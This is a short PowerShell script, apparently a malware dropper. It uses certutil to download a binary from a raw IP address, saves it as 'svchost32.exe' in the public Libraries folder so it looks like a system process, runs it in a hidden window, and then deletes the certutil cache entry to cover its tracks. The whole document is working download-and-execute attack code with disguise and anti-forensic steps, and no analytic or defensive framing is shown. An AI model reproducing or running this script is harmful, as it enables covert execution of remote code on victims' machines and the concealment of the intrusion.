$drop = "$env:PUBLIC\Libraries\svchost32.exe"
certutil.exe -urlcache -split -f http://91.219.236.18/files/svc.bin $drop
Start-Sleep -Seconds 3
Start-Process -FilePath $drop -WindowStyle Hidden
certutil.exe -urlcache -f http://91.219.236.18/files/svc.bin delete | Out-Null
